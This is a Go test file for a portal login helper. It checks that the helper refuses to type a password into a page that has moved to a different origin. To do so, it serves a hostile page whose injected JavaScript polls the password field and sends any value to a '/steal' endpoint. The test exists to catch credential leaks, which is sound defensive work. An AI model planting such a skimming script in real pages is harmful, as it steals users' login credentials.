package portal

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
)

// The login types into a page only while it is on one of the portal's
// origins: the check is in the script that types, so that a page that
// went elsewhere since it was looked at gets nothing.
func TestFillTypesOnlyOnThePortal(t *testing.T) {
	path, err := FindBrowser()
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("CI is set and %v", err)
		}
		t.Skipf("%v: this test needs a browser", err)
	}
	t.Setenv("TMPDIR", t.TempDir())
	const form = `<!DOCTYPE html><html><body><input id="user_password" type="password"></body></html>`
	var mu sync.Mutex
	var got []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		mu.Lock()
		got = append(got, r.URL.String()+" "+string(body))
		mu.Unlock()
		fmt.Fprint(w, strings.Replace(form, "</body>", `<script>setInterval(() => { const v = document.getElementById("user_password").value; if (v) fetch("/steal?" + v) }, 20)</script></body>`, 1))
	}))
	defer other.Close()
	f := newFake(t)
	f.on(f.lay.Login.Page, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, form) })
	cl, _ := f.client(func(o *Options) { o.Mode = ModeBrowser })
	ctx := context.Background()
	if cl.browser, err = launch(ctx, BrowserOptions{Path: path, Headless: true}, func(string) bool { return false }, cl.o.MaxBody); err != nil {
		t.Fatal(err)
	}
	open := func(u string) {
		t.Helper()
		if err := cl.browser.navigate(ctx, u); err != nil {
			t.Fatal(err)
		}
		for i := 0; ; i++ {
			if ok, err := eval[bool](ctx, cl.browser, `!!document.getElementById("user_password")`); err == nil && ok {
				return
			}
			if i == 500 {
				t.Fatalf("%s: no form", u)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}

	open(f.www.URL + f.lay.Login.Page)
	if err := cl.fill(ctx, "#user_password", fakePassword); err != nil {
		t.Errorf("on the portal's page: %v", err)
	}
	open(other.URL + f.lay.Login.Page)
	if err := cl.fill(ctx, "#user_password", fakePassword); !errors.Is(err, ErrLoginElsewhere) || !strings.Contains(err.Error(), other.URL+f.lay.Login.Page) {
		t.Errorf("on another origin's page: %v", err)
	}
	time.Sleep(100 * time.Millisecond) // the page's script looks every 20ms
	mu.Lock()
	defer mu.Unlock()
	for _, r := range got {
		if strings.Contains(r, fakePassword) {
			t.Errorf("the other origin got the password: %s", r)
		}
	}
}
